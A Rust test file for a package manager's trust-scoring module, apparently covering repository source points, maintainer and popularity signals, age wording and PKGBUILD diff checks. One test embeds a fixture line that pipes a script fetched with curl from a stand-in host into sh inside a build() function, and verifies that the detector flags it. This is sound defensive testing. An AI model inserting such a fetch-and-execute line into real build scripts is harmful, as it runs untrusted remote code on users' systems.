use cpac::backends::{PackageInfo, PackageSource};
use cpac::trust::{
    analyze, analyze_at, analyze_pkgbuild_diff, diff_to_signals, format_age, format_recency,
    recommendation, rescore, TrustSignal, TrustTier,
};

fn make_third_party_pkg(name: &str) -> PackageInfo {
    PackageInfo {
        name: name.to_string(),
        version: "1.0.0".to_string(),
        description: "Test package".to_string(),
        source: PackageSource::ThirdParty,
        maintainer: None,
        votes: None,
        popularity_bits: None,
        first_submitted: None,
        last_modified: None,
        out_of_date: false,
        orphan: false,
        url: None,
        licenses: vec![],
        depends: vec![],
        install_size: None,
    }
}

#[test]
fn all_signals_unknown_zero_negative_signals_floors_at_moderate() {
    let pkg = make_third_party_pkg("test-package");
    let report = analyze(&pkg);

    assert_eq!(report.recommendation, "Moderate");
    assert!(report.score >= 38 && report.score <= 45);

    let negative_signals = report.signals.iter().filter(|s| s.points < 0).count();
    assert_eq!(negative_signals, 0, "Should have no negative signals");

    let unknown_signals = report
        .signals
        .iter()
        .filter(|s| s.detail == "Metadata unavailable")
        .count();
    assert_eq!(unknown_signals, 4, "Should have 4 signals with 'Metadata unavailable'");
}

#[test]
fn official_package_with_unknown_metadata_stays_safe() {
    let mut pkg = make_third_party_pkg("official-test");
    pkg.source = PackageSource::Official { repo: "core".to_string() };
    pkg.maintainer = Some("Official Maintainer <official@archlinux.org>".to_string());

    let report = analyze(&pkg);

    assert_eq!(report.recommendation, "Safe");
    assert_eq!(report.score, 80);
}

#[test]
fn actual_negative_signals_still_penalize() {
    let mut pkg = make_third_party_pkg("orphaned-package");
    pkg.orphan = true;

    let report = analyze(&pkg);

    let negative_signals = report.signals.iter().filter(|s| s.points < 0).count();
    assert!(negative_signals > 0, "Should have negative signals for orphaned package");
    assert_ne!(report.recommendation, "Moderate", "Should not floor at Moderate with negative signals");
}

#[test]
fn recommendation_bands() {
    assert_eq!(recommendation(100), "Safe");
    assert_eq!(recommendation(80), "Safe");
    assert_eq!(recommendation(79), "Moderate");
    assert_eq!(recommendation(60), "Moderate");
    assert_eq!(recommendation(59), "Caution");
    assert_eq!(recommendation(40), "Caution");
    assert_eq!(recommendation(39), "Warning");
    assert_eq!(recommendation(20), "Warning");
    assert_eq!(recommendation(19), "Danger");
    assert_eq!(recommendation(0), "Danger");
    assert_eq!(recommendation(101), "Danger");
}

#[test]
fn ages_and_recency_are_worded() {
    assert_eq!(format_age(0), "Less than a day");
    assert_eq!(format_age(12), "12 days");
    assert_eq!(format_age(45), "1 month");
    assert_eq!(format_age(200), "6 months");
    assert_eq!(format_age(365), "1 year");
    assert_eq!(format_age(400), "1 year, 1 months");
    assert_eq!(format_age(800), "2 years, 2 months");
    assert_eq!(format_age(730), "2 years");
    assert_eq!(format_recency(0), "Today");
    assert_eq!(format_recency(1), "Yesterday");
    assert_eq!(format_recency(10), "10 days ago");
    assert_eq!(format_recency(40), "1 month ago");
    assert_eq!(format_recency(100), "3 months ago");
    assert_eq!(format_recency(400), "1 year ago");
    assert_eq!(format_recency(1000), "2 years ago");
}

#[test]
fn aur_package_scores_from_its_metadata() {
    let now: (i64, u32) = (1_700_000_000, 0);
    let mut pkg = make_third_party_pkg("aur-tool");
    pkg.source = PackageSource::Aur;
    pkg.maintainer = Some("someone".to_string());
    pkg.votes = Some(150);
    pkg.first_submitted = Some(now.0 - 3 * 365 * 86400);
    pkg.last_modified = Some(now.0 - 5 * 86400);
    let report = analyze_at(&pkg, now);
    assert_eq!(report.tier, TrustTier::Community);
    let points: Vec<i32> = report.signals.iter().map(|s| s.points).collect();
    // source 5, age 14 (2-5 years), popularity 11 (101-500 votes), recency 15 (within a week)
    assert_eq!(points[0], 5);
    assert_eq!(points[1], 14);
    assert_eq!(points[3], 11);
    assert_eq!(points[4], 15);
    let total: i32 = points.iter().sum();
    assert_eq!(report.score as i32, total.clamp(0, 100));
    assert_eq!(report.signals[3].detail, "150 votes");
    assert_eq!(report.signals[4].detail, "5 days ago");
}

#[test]
fn out_of_date_packages_lose_ten_points() {
    let now: (i64, u32) = (1_700_000_000, 0);
    let mut pkg = make_third_party_pkg("stale");
    let fresh = analyze_at(&pkg, now);
    pkg.out_of_date = true;
    let stale = analyze_at(&pkg, now);
    assert_eq!(stale.signals.len(), fresh.signals.len() + 1);
    assert_eq!(stale.signals[stale.signals.len() - 1].points, -10);
    assert_eq!(stale.score + 10, fresh.score);
}

#[test]
fn rescore_adds_signals_and_recomputes() {
    let pkg = make_third_party_pkg("x");
    let mut report = analyze_at(&pkg, (1_700_000_000, 0));
    let before = report.score as i32;
    rescore(
        &mut report,
        vec![TrustSignal {
            name: "PKGBUILD Anomalies".to_string(),
            points: -20,
            max_points: 0,
            detail: "1 suspicious pattern(s) detected".to_string(),
        }],
    );
    assert_eq!(report.score as i32, (before - 20).clamp(0, 100));
    assert_eq!(report.recommendation, recommendation(report.score));
}

#[test]
fn diff_of_identical_pkgbuilds_is_empty() {
    let text = "pkgname=a\npkgver=1\nbuild() {\n  make\n}";
    let diff = analyze_pkgbuild_diff(text, text);
    assert!(diff.additions.is_empty());
    assert!(diff.deletions.is_empty());
    assert!(diff.suspicious_patterns.is_empty());
    let signals = diff_to_signals(&diff);
    assert_eq!(signals.len(), 1);
    assert_eq!(signals[0].name, "Build Script Changes");
    assert_eq!(signals[0].points, 0);
    assert_eq!(signals[0].detail, "No suspicious changes detected");
}

#[test]
fn diff_flags_added_remote_execution() {
    let old = "pkgname=a\nbuild() {\n  make\n}";
    let new = "pkgname=a\nbuild() {\n  curl https://x.example/p.sh | sh\n  make\n}";
    let diff = analyze_pkgbuild_diff(old, new);
    assert_eq!(diff.additions, vec!["curl https://x.example/p.sh | sh".to_string()]);
    assert!(diff.deletions.is_empty());
    assert!(!diff.suspicious_patterns.is_empty());
    let signals = diff_to_signals(&diff);
    assert!(!signals.is_empty());
    assert!(signals.iter().all(|s| s.points < 0));
}

#[test]
fn repository_source_points() {
    let now: (i64, u32) = (1_700_000_000, 0);
    let mut pkg = make_third_party_pkg("src");
    let cases = [
        (PackageSource::Official { repo: "core".to_string() }, 30),
        (PackageSource::ThirdParty, 15),
        (PackageSource::Aur, 5),
        (PackageSource::Unknown, -5),
    ];
    for (source, points) in cases {
        pkg.source = source;
        let report = analyze_at(&pkg, now);
        assert_eq!(report.signals[0].name, "Repository Source");
        assert_eq!(report.signals[0].points, points);
        assert_eq!(report.signals[0].max_points, 30);
    }
}

#[test]
fn orphaned_maintainer_costs_ten() {
    let mut pkg = make_third_party_pkg("orphan");
    pkg.orphan = true;
    let report = analyze_at(&pkg, (1_700_000_000, 0));
    assert_eq!(report.signals[2].name, "Maintainer");
    assert_eq!(report.signals[2].points, -10);
}

#[test]
fn missing_metadata_floor_gives_safe_only_from_eighty() {
    let now: (i64, u32) = (1_700_000_000, 0);
    // Official, no maintainer: 30 + 13 + 10 + 12 + 12 = 77
    let mut pkg = make_third_party_pkg("official-no-maintainer");
    pkg.source = PackageSource::Official { repo: "core".to_string() };
    let report = analyze_at(&pkg, now);
    assert_eq!(report.score, 77);
    assert_eq!(report.recommendation, "Moderate");
    // with a maintainer with an address: 30 + 13 + 13 + 12 + 12 = 80
    pkg.maintainer = Some("someone <s@archlinux.org>".to_string());
    let report = analyze_at(&pkg, now);
    assert_eq!(report.score, 80);
    assert_eq!(report.recommendation, "Safe");
}

#[test]
fn unknown_source_counts_against_the_package() {
    // Unknown: -5 + 5 + 5 + 5 + 5 = 15; the source signal is negative, so no floor
    let mut pkg = make_third_party_pkg("mystery");
    pkg.source = PackageSource::Unknown;
    let report = analyze_at(&pkg, (1_700_000_000, 0));
    assert_eq!(report.score, 15);
    assert_eq!(report.recommendation, "Danger");
}
